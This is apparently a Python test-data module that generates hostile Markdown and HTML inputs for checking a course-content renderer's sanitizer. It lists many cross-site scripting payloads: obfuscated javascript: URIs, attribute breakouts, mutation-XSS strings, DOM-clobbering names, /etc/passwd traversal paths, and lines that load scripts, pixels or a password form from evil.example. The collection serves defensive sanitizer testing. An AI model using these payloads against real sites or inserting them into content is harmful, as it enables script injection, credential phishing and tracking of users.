"""Our own hostile text, built from families: what to write, times where it can be written.

Each calls `alert`, asks for a file at evil.example, or takes a name that scripts rely on.
"""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

# Addresses that run something, with all the ways of hiding the scheme that browsers forgive.
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3a;{RUN}",
    f"javascript%3A{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"\\javascript:{RUN}",
    f"java\\script:{RUN}",
    f"&#x200b;javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:msgbox({RUN})",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data&colon;text/html,<script>{RUN}</script>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/temporary/x",
    "file:///etc/passwd",
    "view-source:javascript:1",
    f"jar:javascript:{RUN}!/",
    f"feed:javascript:{RUN}",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    f"course:page/x/y#\"onmouseover=\"{RUN}",
    f"course:javascript:{RUN}",
    f"course:asset/../../javascript:{RUN}",
    f"course:page/javascript:{RUN}/x",
    "course:asset/%2e%2e/%2e%2e/etc/passwd",
    f"#\"onclick=\"{RUN}",
    f"?\"><script>{RUN}</script>",
]  # fmt: skip

# Where an address can stand in Markdown.
LINKS = [
    "[press]({})",
    "[press](<{}>)",
    '[press]({} "title")',
    "![picture]({})",
    "![picture](<{}>)",
    "[press][r]\n\n[r]: {}",
    "[press][r]\n\n[r]: <{}>",
    "![picture][r]\n\n[r]: {}",
    "<{}>",
    '<a href="{}">press</a>',
    "<a href='{}'>press</a>",
    '<img src="{}" alt="x">',
    '::: {{.video title="A film" url="{}" poster="{}"}}\nTranscript.\n:::',
    '::: {{.video title="A film" src="{}"}}\nTranscript.\n:::',
    '::: {{.download file="{}"}}\nA file.\n:::',
    "::: download\n[A file]({})\n:::",
    "[press]({}){{target=_blank}}",
    "- [x] [press]({})",
    "| a |\n|---|\n| [press]({}) |",
    "Term\n:   [press]({})",
    "A note[^n].\n\n[^n]: [press]({})",
    "> [!NOTE]\n> [press]({})",
]

# What closes an attribute or an element early.
BREAKS = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"&quot; onmouseover=&quot;{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"`-{RUN}-`",
    f"\\\" onmouseover=\\\"{RUN}",
    f"x onfocus={RUN} autofocus tabindex=1",
    f"\x00<script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"<svg><style><!--</style><img src=x onerror={RUN}>",
]  # fmt: skip

# Where such a break can stand in our own format.
PLACES = [
    '::: {{.reflect #m1-ask template="{}"}}\nWhat?\n:::',
    '::: {{.story title="{}"}}\nOnce.\n:::',
    '::: {{.details title="{}"}}\nMore.\n:::',
    '::: {{.details summary="{}"}}\nMore.\n:::',
    '::: {{.glossary term="{}"}}\nMeaning.\n:::',
    '::: {{.video title="{}" url="https://example.org/film"}}\nTranscript.\n:::',
    '::: {{.video title="A film" poster="{}" url="{}"}}\nTranscript.\n:::',
    '::: {{.callout title="{}" class="{}" style="{}"}}\nNote.\n:::',
    "::: callout {}\nNote.\n:::",
    "::: {}\nNote.\n:::",
    "## A heading {{#{}}}",
    '## A heading {{#x title="{}"}}',
    "## {}",
    "Setext {}\n------",
    '[press](https://example.org "{}")',
    '![{}](fig/x.png "{}")',
    '![{}](fig/x.png){{alt="{}" width="{}"}}',
    "[press](https://example.org){{title='{}'}}",
    "```{}\ncode\n```",
    "``` {{.python {}}}\ncode\n```",
    "~~~ {{#x .y title=\"{}\"}}\ncode\n~~~",
    "`code`{{title=\"{}\"}}",
    "A note[^{}].\n\n[^{}]: The note.",
    "*[HTML]: {}\n\nHTML is a language.",
    "*[{}]: A language\n\n{}",
    "Term {}\n:   Meaning {}",
    "| {} |\n|:--|\n| {} |",
    "- [ ] {}",
    "> [!{}]\n> Words.",
    '!!! note "{}"\n    Words.',
    "??? {}\n    Words.",
    "[press][{}]\n\n[{}]: https://example.org \"{}\"",
    "https://example.org/{}",
    "www.example.org/{}",
    "a{}@example.org",
    "<https://example.org/{}>",
    "{{: .class onclick=\"{}\"}}",
    "words\n{{: title=\"{}\" }}",
    "==mark {}==",
    "~~gone {}~~",
    "$x{}$",
    "<details><summary>{}</summary>{}</details>",
    '<abbr title="{}">HTML</abbr>',
    '<div class="{}" id="{}">words</div>',
    '<td colspan="{}">cell</td>',
    "<!-- {} -->",
]  # fmt: skip

# Raw HTML, by family.
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onfocusin onblur ontoggle onbeforetoggle onwheel "
    "onscroll onscrollend onanimationstart onanimationend ontransitionend onpointerenter "
    "onpointerrawupdate oncopy onpaste oncut onsubmit oninput onchange oninvalid onbegin onend "
    "onrepeat onhashchange onpageshow onmessage onunhandledrejection "
    "oncontentvisibilityautostatechange oncommand onbeforematch "
    "onsecuritypolicyviolation onslotchange oncuechange oncanplay"
)
EVENTS = _EVENTS.split()
ELEMENTS = ["img src=x", "svg", "body", "details open", "video src=x", "p tabindex=1", "xss"]
RAW = [
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    "<script/src=//evil.example/x.js></script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><set attributeName=href to=javascript:{RUN}><a id=x><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<noembed><img title=\"</noembed><img src onerror={RUN}>\"></noembed>",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<title><img src=x onerror={RUN}></title>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<table><td><p><table><img src=x onerror={RUN}></table>",
    f"<p id=\"<img src=x onerror={RUN}>\">",
    f"<a title=\"<a alt='</a><img src=x onerror={RUN}>'\">x</a>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version=1?><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--! --!><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    f"<object data=javascript:{RUN}></object>",
    "<object data=//evil.example/x.swf></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x codebase=//evil.example></applet>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href=//evil.example/>",
    "<base target=_top>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(//evil.example/x)\">x</p>",
    f"<p style=\"width:expression({RUN})\">x</p>",
    "<p style=\"-moz-binding:url(//evil.example/x#y);behavior:url(x)\">x</p>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">Sign in again</p>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<input type=image src=x onerror={RUN} formaction=//evil.example>",
    f"<isindex action=javascript:{RUN} type=image>",
    "<button form=sign-out formaction=//evil.example>x</button>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/pixel.gif 1x' src=x>",
    "<img src=x longdesc=//evil.example lowsrc=//evil.example dynsrc=//evil.example>",
    "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png autoplay></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<video><track src=//evil.example/x.vtt default></video>",
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</table>",
    "<a href=x ping=//evil.example>x</a>",
    "<a href=https://evil.example target=_top>x</a>",
    "<a href=x attributionsrc=//evil.example>x</a>",
    f"<xml:namespace prefix=t><t:set attributename=innerhtml to=\"<img src=x onerror={RUN}>\">",
    f"<x contenteditable onblur={RUN}>x</x>",
    f"<a href=javascript:{RUN} accesskey=x autofocus>x</a>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<bgsound src=javascript:{RUN}>",
    "<layer src=//evil.example/x.js></layer>",
    "<portal src=//evil.example></portal>",
    "<fencedframe></fencedframe>",
    f"<slot onslotchange={RUN}></slot>",
    f"<a href=\"javascript:{RUN}\"><img src=x></a>",
]  # fmt: skip

# Names that scripts look up on window and document.
CLOBBERED = [
    "alert", "body", "head", "cookie", "forms", "location", "documentElement", "getElementById",
    "querySelector", "createElement", "currentScript", "defaultView", "name", "self", "parent",
    "top", "config", "fetch", "addEventListener", "attributes", "submit", "action", "method",
    "csrf_token", "main", "content", "page-title", "sign-out", "__proto__", "constructor",
]  # fmt: skip
NAMED = [
    '<a id="{0}" name="{0}">x</a>',
    '<img src="x" alt="x" name="{0}">',
    '<form id="{0}"><input name="{0}"></form>',
    "## {0} {{#{0}}}",
    "::: {{.reflect #{0}}}\nWhat?\n:::",
]

# Whole files of front matter, which no page body can hold: see test_hostile_modules.
ON_THEIR_OWN = [
    '---\ntitle: "{}"\n---\n\nWords.\n',
    "---\ntitle: '{}'\n---\n\nWords.\n",
    "---\ntitle: |\n  {}\n---\n\nWords.\n",
    "---\n{}: x\n---\n\nWords.\n",
    "{}\n\nWords.\n",
]


def _filled(pattern: str, words: str) -> str:
    holes = pattern.count("{}")
    return pattern.format(*[words] * holes)


OURS: list[str] = list(
    dict.fromkeys(
        [
            *(_filled(place, address) for place, address in product(LINKS, ADDRESSES)),
            *(_filled(place, words) for place, words in product(PLACES, BREAKS)),
            *(f"<{element} {event}={RUN}>" for element, event in product(ELEMENTS, EVENTS)),
            *(f"words <{element}/{event}={RUN}//" for element, event in product(ELEMENTS, EVENTS)),
            *RAW,
            *(f"words {raw} words" for raw in RAW),
            *(pattern.format(name) for pattern, name in product(NAMED, CLOBBERED)),
        ]
    )
)
